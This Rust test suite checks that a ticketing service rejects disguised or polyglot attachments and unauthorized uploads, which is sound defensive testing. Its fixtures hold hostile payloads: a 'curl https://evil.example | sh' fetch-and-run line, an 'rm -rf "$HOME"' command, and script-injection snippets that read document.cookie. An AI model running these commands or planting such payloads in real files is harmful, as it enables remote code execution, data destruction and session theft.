//! Uploads that must leave no trace: files that are not what they claim,
//! callers who may not attach, tickets that take no more attachments.

use reqwest::StatusCode;
use serde_json::Value;
use test_support::Store;
use uuid::Uuid;

use crate::common::{add, create_with, delete_ticket, footprint, png, ticket, File};
use crate::support::{assert_code, both_stores, error_code, TestApp};

/// Files that pretend to be something we accept.
fn disguised() -> Vec<File> {
    let mut zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
    zip.extend_from_slice(&[0; 20]);
    zip.extend_from_slice(b"evil.html");
    vec![
        File::new(
            "cute-cat.png",
            "image/png",
            b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>".to_vec(),
        ),
        File::new("invoice.pdf", "application/pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n".to_vec()),
        File::new(
            "logo.svg",
            "image/svg+xml",
            b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                .to_vec(),
        ),
        File::new("archive.zip", "application/zip", zip),
        File::new("notes.txt", "text/plain", b"just some text".to_vec()),
        File::new("program.exe", "image/jpeg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec()),
    ]
}

async fn disguised_files_are_refused_without_trace(store: Store) {
    let app = TestApp::spawn(store).await;
    let reporter = app.register("reporter@example.com").await;
    let id = app.create_ticket(&reporter.token, "Suspicious mail").await;
    let before = footprint(&app).await;

    for file in disguised() {
        // Alone, through addAttachment.
        let (status, body) = add(&app, Some(&reporter.token), &id, &file).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_code(&body, "UNSUPPORTED_MEDIA_TYPE");
        assert_eq!(body["data"], Value::Null, "{body}");
        assert_eq!(footprint(&app).await, before, "{} left a trace", file.name);

        // Beside a good file, through createTicket: no ticket at all.
        let (status, body) = create_with(
            &app,
            &reporter.token,
            "With evidence",
            &[File::new("ok.png", "image/png", png()), file.clone()],
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_code(&body, "UNSUPPORTED_MEDIA_TYPE");
        assert_eq!(footprint(&app).await, before, "{} left a trace", file.name);
    }

    // An empty file is not evidence either.
    let (_, body) = add(&app, Some(&reporter.token), &id, &File::new("empty.png", "image/png", Vec::new())).await;
    assert_code(&body, "BAD_USER_INPUT");
    assert_eq!(footprint(&app).await, before);

    let seen = ticket(&app, &reporter.token, &id).await;
    assert_eq!(seen["version"], 1);
    assert_eq!(seen["attachments"], serde_json::json!([]));
    app.shutdown().await;
}

/// Text that merely contains a few signature bytes is still not a PNG,
/// JPEG, GIF, WebP or PDF file: the signature must be where the format
/// puts it, whole.
async fn partial_signatures_are_not_enough(store: Store) {
    let app = TestApp::spawn(store).await;
    let reporter = app.register("reporter@example.com").await;
    let id = app.create_ticket(&reporter.token, "Polyglots").await;
    let before = footprint(&app).await;

    let cases = [
        // HTML and a shell script with "%PDF" somewhere in their first KiB.
        File::new(
            "page.pdf",
            "application/pdf",
            b"<!DOCTYPE html><html><script>alert(1)</script><!-- %PDF --></html>".to_vec(),
        ),
        File::new("run.pdf", "application/pdf", b"#!/bin/sh\n# %PDF-1.7\nrm -rf \"$HOME\"\n".to_vec()),
        // "GIF" without "87a"/"89a".
        File::new("gift.gif", "image/gif", b"GIFT voucher for the IT team <script>alert(1)</script>".to_vec()),
        // "WEBP" at offset 8 without a RIFF container.
        File::new("fake.webp", "image/webp", b"<html>  WEBP<script>alert(1)</script></html>".to_vec()),
        // The first four PNG bytes followed by HTML.
        File::new("fake.png", "image/png", b"\x89PNG<html><script>alert(1)</script></html>".to_vec()),
    ];
    let mut accepted = Vec::new();
    for file in &cases {
        let (_, body) = add(&app, Some(&reporter.token), &id, file).await;
        if error_code(&body).as_deref() != Some("UNSUPPORTED_MEDIA_TYPE") {
            accepted.push(format!("{} -> {}", file.name, body["data"]["addAttachment"]["contentType"]));
        }
    }
    assert!(accepted.is_empty(), "accepted as evidence although they are not: {accepted:#?}");
    assert_eq!(footprint(&app).await, before);
    app.shutdown().await;
}

async fn only_allowed_callers_attach(store: Store) {
    let app = TestApp::spawn(store).await;
    let admin = app.admin().await;
    let owner = app.register("owner@example.com").await;
    let other = app.register("other@example.com").await;
    let id = app.create_ticket(&owner.token, "Monitor flickers").await;
    let file = File::new("flicker.png", "image/png", png());
    let before = footprint(&app).await;

    // Nobody signed in: refused, and nothing stored.
    let (_, body) = add(&app, None, &id, &file).await;
    assert_code(&body, "UNAUTHENTICATED");
    let (_, body) = add(&app, Some("not-a-token"), &id, &file).await;
    assert_code(&body, "UNAUTHENTICATED");
    let request = crate::common::Multipart::create_ticket("Anonymous", std::slice::from_ref(&file));
    let (_, body) = crate::common::send(&app, None, request).await;
    assert_code(&body, "UNAUTHENTICATED");
    assert_eq!(footprint(&app).await, before);

    // Another employee's ticket answers exactly like one that does not exist.
    let (_, foreign) = add(&app, Some(&other.token), &id, &file).await;
    assert_code(&foreign, "NOT_FOUND");
    let (_, missing) = add(&app, Some(&other.token), &Uuid::new_v4().to_string(), &file).await;
    assert_code(&missing, "NOT_FOUND");
    assert_eq!(foreign["errors"][0]["message"], missing["errors"][0]["message"]);
    assert_eq!(foreign["data"], missing["data"]);
    assert_eq!(footprint(&app).await, before);

    // A deleted ticket takes no attachment: not from its owner (who no
    // longer sees it), not from an admin.
    delete_ticket(&app, &admin.token, &id).await;
    let before = footprint(&app).await;
    let (_, body) = add(&app, Some(&owner.token), &id, &file).await;
    assert_code(&body, "NOT_FOUND");
    let (_, body) = add(&app, Some(&admin.token), &id, &file).await;
    assert!(body.get("errors").is_some() && body["data"] == Value::Null, "{body}");
    assert_ne!(error_code(&body).as_deref(), Some("INTERNAL"), "{body}");
    assert_eq!(footprint(&app).await, before);
    let seen = ticket(&app, &admin.token, &id).await;
    assert_eq!(seen["attachments"], serde_json::json!([]));
    assert_eq!(seen["version"], 2, "opened, deleted: {seen}");
    app.shutdown().await;
}

both_stores!(disguised_files_are_refused_without_trace, partial_signatures_are_not_enough, only_allowed_callers_attach);
